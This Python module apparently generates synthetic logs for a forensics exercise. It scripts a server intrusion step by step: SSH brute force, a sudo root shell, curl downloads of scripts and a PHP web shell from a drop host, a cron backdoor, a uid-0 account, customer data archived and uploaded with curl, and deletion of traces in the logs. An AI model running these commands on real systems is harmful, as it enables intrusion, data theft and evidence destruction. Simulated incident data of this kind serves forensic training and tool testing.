"""The ten steps of the intrusion, each with its true time in UTC, written into every log that saw it."""

from .clock import MINUTE, SECOND, in_utc, utc
from .everyday import request
from .host import AUTH, BOOT, CRON, DAEMON, KERN, OFF, USER
from .people import FINGERPRINT

ATTACKER = "203.0.113.66"
SECOND_ADDRESS = "198.51.100.23"
DROP = "https://198.51.100.99/in/"
SHELL_PAGE = "/uploads/img_4471.php"
BEAT = "/usr/local/lib/.sysupd/beat.sh"

AT = {
    "work": utc("2026-11-02 08:12:30"),
    "brute force": utc("2026-11-02 22:41:03"),
    "login": utc("2026-11-02 23:24:41"),
    "root": utc("2026-11-02 23:27:10"),
    "cron": utc("2026-11-02 23:31:55"),
    "account": utc("2026-11-02 23:36:12"),
    "web shell": utc("2026-11-03 00:02:40"),
    "first post": utc("2026-11-03 00:09:17"),
    "back": utc("2026-11-03 20:38:20"),
    "pack": utc("2026-11-03 20:44:05"),
    "send": utc("2026-11-03 20:52:18"),
    "tamper": utc("2026-11-03 21:03:44"),
    "noticed": utc("2026-11-04 07:31:26"),
    "beat stopped": utc("2026-11-04 07:42:50"),
}
_TRIED = ["root", "admin", "deploy", "test", "jane", "oracle", "ubuntu", "git", "postgres", "deploy", "user", "deploy"]


def told(host, logins):
    """Writes the story; returns its steps as (time, words)."""
    _brute_force(host, logins)
    _in_and_up(host, logins)
    _persistence(host)
    _web_shell(host)
    _theft(host, logins)
    _tampering(host)
    _noticed(host, logins)
    return STEPS


def command(h, t, auid, ses, uid, words, folder="/root", ok=True, tty="pts0"):
    """One execve as auditd (log_format=ENRICHED) keeps it: five records of one event."""
    pid = h.pid(t)
    names = {0: "root", 33: "www-data", 1001: "deploy", 1000: "jane", 4294967295: "unset"}
    exe = words[0] if words[0].startswith("/") else "/usr/bin/" + words[0]
    ids = " ".join(f"{k}={uid}" for k in ["uid", "gid", "euid", "suid", "fsuid", "egid", "sgid", "fsgid"])
    name = names[uid]
    upper = " ".join(f'{k}="{name}"' for k in ["UID", "GID", "EUID", "SUID", "FSUID", "EGID", "SGID", "FSGID"])
    title = "\0".join(words).encode().hex().upper()
    args = " ".join(f"a{n}={_untrusted(w)}" for n, w in enumerate(words))
    end = "success=yes exit=0" if ok else "success=no exit=-1"
    h.audit.append((t, h.order(), [
        ("SYSCALL", f"arch=c000003e syscall=59 {end} a0=55d0c7e1b2a0 a1=55d0c7e1c0f0 a2=55d0c7e0a010 a3=8 items=2 ppid={pid - 3} "
         f"pid={pid} auid={auid} {ids} tty={tty} ses={ses} comm=\"{words[0].split('/')[-1][:15]}\" exe=\"{exe}\" subj=unconfined "
         "key=\"exec\"", f'ARCH=x86_64 SYSCALL=execve AUID="{names[auid]}" {upper}'),
        ("EXECVE", f"argc={len(words)} {args}", ""),
        ("CWD", f"cwd=\"{folder}\"", ""),
        ("PATH", f"item=0 name=\"{exe}\" inode={1000 + len(exe) * 7} dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
         "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", 'OUID="root" OGID="root"'),
        ("PROCTITLE", f"proctitle={title}", "")]))


def _untrusted(word):
    """auditd puts words with blanks, quotes or controls in hex, the rest in quotes."""
    odd = any(c <= " " or c == '"' or ord(c) > 126 for c in word)
    return word.encode().hex().upper() if odd else f'"{word}"'


def _brute_force(h, logins):
    t, n = AT["brute force"], 0
    while t < AT["login"] - 9 * SECOND:
        user = _TRIED[n % len(_TRIED)]
        logins.failure(t, user, ATTACKER, 40_000 + n * 29, user in ("root", "deploy", "jane"))
        t += h.chance.between(8, 20) * SECOND + h.jitter()
        n += 1


def _in_and_up(h, logins):
    t = AT["login"]
    h.deploy_session = logins.session(t, "deploy", ATTACKER, 51422, None, 62 * MINUTE, tty="pts/3")
    logins.sudo(t + 71 * SECOND, "deploy", "pts/3", "/home/deploy", "list", 50_000)
    logins.sudo(AT["root"], "deploy", "pts/3", "/home/deploy", "/bin/bash", 58 * MINUTE)
    s = h.deploy_session
    for after, uid, words in [(40, 1001, ["id"]), (55, 1001, ["uname", "-a"]), (71, 1001, ["sudo", "-l"]),
                              (110, 1001, ["curl", "-so", "/tmp/enum.sh", DROP + "enum.sh"]),
                              (123, 1001, ["/bin/sh", "/tmp/enum.sh"]), (149, 1001, ["sudo", "/bin/bash"])]:
        command(h, t + after * SECOND, 1001, s, uid, words, "/home/deploy", tty="pts3")


def _persistence(h):
    s = h.deploy_session
    for t, words in [(AT["cron"] - 40 * SECOND, ["mkdir", "-p", "/usr/local/lib/.sysupd"]),
                     (AT["cron"] - 20 * SECOND, ["curl", "-so", BEAT, DROP + "beat.sh"]),
                     (AT["cron"] - 9 * SECOND, ["chmod", "755", BEAT]),
                     (AT["cron"], ["tee", "/etc/cron.d/php-session-gc"]),
                     (AT["account"], ["/usr/sbin/useradd", "-o", "-u", "0", "-g", "0", "-d", "/var/lib/sysupd", "-m", "-s",
                                      "/bin/bash", "sysupd"]),
                     (AT["account"] + 21 * SECOND, ["passwd", "sysupd"])]:
        command(h, t, 1001, s, 0, words, tty="pts4")
    t, pid = AT["account"], h.pid(AT["account"])
    h.say(t + 30_000, AUTH, "useradd", pid, "new user: name=sysupd, UID=0, GID=0, home=/var/lib/sysupd, shell=/bin/bash, from=/dev/pts/4")
    h.say(t + 23 * SECOND, AUTH, "passwd", pid + 6, "pam_unix(passwd:chauthtok): password changed for sysupd")
    h.audit.append((t + 31_000, h.order(), [(
        "ADD_USER", f"pid={pid} uid=0 auid=1001 ses={s} subj=unconfined msg='op=add-user acct=\"sysupd\" exe=\"/usr/sbin/useradd\" "
        "hostname=web01 addr=? terminal=pts/4 res=success'", 'UID="root" AUID="deploy"')]))
    h.audit.append((t + 23 * SECOND + 900, h.order(), [(
        "USER_CHAUTHTOK", f"pid={pid + 6} uid=0 auid=1001 ses={s} subj=unconfined msg='op=PAM:chauthtok grantors=pam_unix "
        "acct=\"sysupd\" exe=\"/usr/bin/passwd\" hostname=web01 addr=? terminal=pts/4 res=success'", 'UID="root" AUID="deploy"')]))
    h.say(utc("2026-11-02 23:32:01"), CRON, "cron", 655, "(*system*php-session-gc) RELOAD (/etc/cron.d/php-session-gc)")
    beat = utc("2026-11-02 23:40:01")
    while beat < AT["beat stopped"]:
        pid, t = h.pid(beat), beat + 20_000
        h.say(t, AUTH, "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        h.say(t + 4_000, CRON, "CRON", pid + 1, f"(root) CMD ({BEAT} >/dev/null 2>&1)")
        h.say(t + 800_000, AUTH, "CRON", pid, "pam_unix(cron:session): session closed for user root")
        beat += 10 * MINUTE


def _web_shell(h):
    s = h.deploy_session
    command(h, AT["web shell"] - 8 * SECOND, 1001, s, 0, ["curl", "-so", "/var/www/html" + SHELL_PAGE, DROP + "g.txt"], tty="pts4")
    command(h, AT["web shell"], 1001, s, 0, ["chown", "www-data:www-data", "/var/www/html" + SHELL_PAGE], tty="pts4")
    agent = "python-requests/2.32.5"
    request(h, AT["first post"] - 9 * SECOND, SECOND_ADDRESS, "GET", SHELL_PAGE, 200, 0, agent)
    t, n = AT["first post"], 0
    runs = [["sh", "-c", "id"], ["sh", "-c", "ls -la /srv/app"], ["sh", "-c", "cat /srv/app/config.toml"], ["sh", "-c", "env"]]
    while n < 46:
        request(h, t, SECOND_ADDRESS, "POST", SHELL_PAGE, 500 if n in (3, 19) else 200, 30 + n * 17 % 900, agent)
        if n in (3, 19):
            h.web_errors.append((t, h.order(), f"[error] 801#801: *{7000 + n} FastCGI sent in stderr: \"PHP message: PHP Warning:  "
                                 f"system(): Cannot execute a blank command in /var/www/html{SHELL_PAGE} on line 1\" while reading "
                                 f"response header from upstream, client: {SECOND_ADDRESS}, server: web01.example, request: \"POST "
                                 f"{SHELL_PAGE} HTTP/1.1\", upstream: \"fastcgi://unix:/run/php/php8.2-fpm.sock:\", host: \"web01.example\""))
        elif n % 3 == 0:
            command(h, t + 30_000, 4294967295, 4294967295, 33, runs[n // 3 % 4], "/var/www/html/uploads", tty="(none)")
        t += h.chance.between(9, 700) * SECOND if n != 30 else AT["back"] - 25 * MINUTE - t
        n += 1


def _theft(h, logins):
    s = h.back_session = logins.session(AT["back"], "sysupd", SECOND_ADDRESS, 40518, None, 33 * MINUTE, tty="pts/1")
    pack, send = AT["pack"], AT["send"]
    for t, words in [(pack - 90 * SECOND, ["docker", "ps"]), (pack - 51 * SECOND, ["docker", "logs", "--tail", "50", "shop"]),
                     (pack, ["tar", "-czf", "/var/tmp/.s/site.tar.gz", "/srv/app", "/var/www/html"]),
                     (pack + 140 * SECOND, ["zip", "-q", "-P", "infected", "/var/tmp/.s/customers.zip", "/var/tmp/.s/customers.csv"]),
                     (send, ["curl", "-sT", "/var/tmp/.s/site.tar.gz", DROP]),
                     (send + 96 * SECOND, ["curl", "-sT", "/var/tmp/.s/customers.zip", DROP])]:
        command(h, t, 0, s, 0, words, "/var/lib/sysupd", tty="pts1")
    for n in range(24):
        ns = (pack + (20 + n * 3) * SECOND + h.jitter()) * 1000 + n
        h.container.append((ns, "stdout", f"INFO shop: GET /internal/export?table=customers&page={n + 1} 200 {90 + n} ms\n"))
    # One line longer than docker's 16 KiB piece: it comes in two records, the first without its line feed.
    ns = (pack + 101 * SECOND) * 1000
    long = "ERROR shop: export cursor trace " + "customers.id>" * 1600
    h.container += [(ns, "stderr", long[:16384]), (ns + 900, "stderr", long[16384:] + "\n")]
    h.say(send + 2 * SECOND, KERN, "kernel", 0, f"[{(send + 2 * SECOND - BOOT) / SECOND:12.6f}] [UFW AUDIT] IN= OUT=enp1s0 SRC=192.0.2.80 DST=198.51.100.99 "
          "LEN=60 PROTO=TCP SPT=47122 DPT=443 SYN", 4)


def _tampering(h):
    t, s = AT["tamper"], h.back_session
    for after, words, ok in [(0, ["sed", "-i", f"/{ATTACKER}/d", "/var/log/auth.log"], True),
                             (22, ["rm", "-f", "/var/tmp/.s/customers.zip", "/var/tmp/.s/site.tar.gz", "/var/tmp/.s/customers.csv"], True),
                             (47, ["rm", "-f", "/tmp/enum.sh"], True), (61, ["rm", "-f", "/var/lib/sysupd/.bash_history"], True)]:
        command(h, t + after * SECOND, 0, s, 0, words, "/var/lib/sysupd", ok, tty="pts1")
    pid = h.pid(t)
    h.audit.append((t + 30_000, h.order(), [
        ("SYSCALL", f"arch=c000003e syscall=82 success=no exit=-1 a0=5633a1 a1=5633b2 a2=0 a3=0 items=4 ppid={pid - 2} pid={pid} auid=0 "
         "uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 "
         f"ses={s} comm=\"sed\" exe=\"/usr/bin/sed\" subj=unconfined key=\"logs\"", 'ARCH=x86_64 SYSCALL=rename AUID="root" UID="root"'),
        ("PATH", "item=3 name=\"/var/log/auth.log\" inode={AUTH_LOG_INODE} dev=fe:01 mode=0100640 ouid=0 ogid=4 rdev=00:00 nametype=DELETE "
         "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", 'OUID="root" OGID="adm"')]))


def _noticed(h, logins):
    t = AT["noticed"]
    s = logins.session(t, "jane", "192.0.2.15", 50522, "SHA256:" + FINGERPRINT["jane"], 50 * MINUTE)
    moved = (AT["beat stopped"] - t) / MINUTE
    for after, what in [(3, "/usr/bin/last -f /var/log/wtmp"), (5, "/usr/bin/grep -r beat.sh /etc/cron.d"),
                        (9, "/usr/bin/chmod 000 /var/www/html" + SHELL_PAGE),
                        (moved, "/usr/bin/mv /etc/cron.d/php-session-gc /root/php-session-gc.found"),
                        (12, "/usr/sbin/usermod -L sysupd"), (13, "/usr/bin/passwd -l deploy"), (49, "/usr/sbin/poweroff")]:
        when = t + int(after * MINUTE)
        logins.sudo(when, "jane", "pts/0", "/home/jane", what)
        command(h, when + 9_000, 1000, s, 0, what.split(" "), "/home/jane", tty="pts0")
    h.say(AT["beat stopped"], CRON, "cron", 655, "(*system*php-session-gc) RELOAD (/etc/cron.d/php-session-gc)")
    h.say(t + 20 * MINUTE, USER, "jane", h.pid(t), "web01 is compromised: beat.sh, sysupd, img_4471.php. "
          "I leave all as it is and shut down for imaging")
    h.wtmp.append((OFF, h.order(), (1, 0, "~", "~~", "shutdown", "6.1.0-40-amd64", 0)))
    h.say(OFF - 4 * SECOND, DAEMON, "systemd", 1, "Stopping nginx.service - A high performance web server and a reverse proxy server...")
    h.say(OFF - 2 * SECOND, DAEMON, "systemd", 1, "Reached target poweroff.target - System Power Off.")


def _hour(name):
    return f"{in_utc(AT[name]):%Y-%m-%d %H:%M:%S}"


STEPS = [(_hour(name), words) for name, words in [
    ("work", "A working day: jane and deploy log in by key, jane upgrades openssl."),
    ("brute force", f"{ATTACKER} tries passwords over ssh for root, admin, deploy, jane and others, across midnight in Berlin."),
    ("login", f"Password of `deploy` accepted from {ATTACKER} port 51422."),
    ("root", "`sudo /bin/bash` as deploy gives a root shell."),
    ("cron", f"/etc/cron.d/php-session-gc written: runs {BEAT} every ten minutes, first at 23:40:01."),
    ("account", "useradd of `sysupd` with uid 0, home /var/lib/sysupd."),
    ("web shell", f"/var/www/html{SHELL_PAGE} written; {SECOND_ADDRESS} POSTs to it from 2026-11-03 00:09:17 on."),
    ("pack", f"`sysupd`, in from {SECOND_ADDRESS} since 20:38:20, packs /srv/app and exports customers from the container; "
             f"sent to {DROP} with curl at 20:52:18."),
    ("tamper", "`sed -i` on auth.log fails (append-only); archives, script and history deleted at 21:04 to 21:05."),
    ("noticed", "jane notices, keeps the traces, locks the accounts and shuts down at 08:21:37."),
]]
